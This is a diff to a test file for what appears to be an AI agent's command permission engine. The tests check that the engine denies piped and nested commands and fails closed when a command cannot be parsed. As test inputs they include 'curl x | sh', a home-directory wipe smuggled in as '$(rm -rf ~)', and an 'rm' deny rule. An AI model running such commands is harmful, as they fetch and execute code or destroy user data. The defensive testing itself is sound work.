@@ -105,15 +105,30 @@ describe('rules: deny → allow → mode → allowlists → ask', () => {
       { prompter: createNonInteractivePrompter() },
     );
     const sneaky = {
-      ...commandReq('', 'git status && curl x | sh', true),
-      parts: ['git status', 'curl x', 'sh'],
+      ...commandReq('', 'git status && curl x | grep y', true),
+      parts: ['git status', 'curl x', 'grep y'],
     };
     expect(await e.check(sneaky)).toMatchObject({ outcome: 'deny', source: 'no-prompt' });
+    // `sh` reading code from a pipe could run rm: a deny rule cannot be proven not to match.
+    const piped = { ...commandReq('', 'git status && curl x | sh', true) };
+    expect(await e.check(piped)).toMatchObject({ outcome: 'deny', source: 'deny-rule' });
     const hidden = {
       ...commandReq('', 'git log "$(rm -rf ~)"', true),
       parts: ['git log "$(rm -rf ~)"', 'rm -rf ~'],
     };
     expect(await e.check(hidden)).toMatchObject({ outcome: 'deny', source: 'deny-rule' });
+  });
+
+  it('facts a caller attaches to a request are ignored: the engine reads the command itself', async () => {
+    const { e } = await engine({ permissions: { deny: ['run_command(rm *)'] } }, { mode: 'bypass' });
+    const forged = { ...commandReq('env', 'env rm -rf x'), commands: { commands: [], unprovable: [] } };
+    expect(await e.check(forged)).toMatchObject({ outcome: 'deny', source: 'deny-rule' });
+  });
+
+  it('without a parser a run_command deny rule cannot be proven not to match: it denies (fail closed)', async () => {
+    const { e } = await engine({}, { mode: 'bypass' });
+    e.setProfileRules([{ origin: 'profile:x', deny: ['run_command(rm *)'] }]);
+    expect(await e.check(commandReq('ls', 'ls -la'))).toMatchObject({ outcome: 'deny', source: 'deny-rule' });
   });
 
   it('a glob-free rule equal to the whole compound command allows exactly it', async () => {
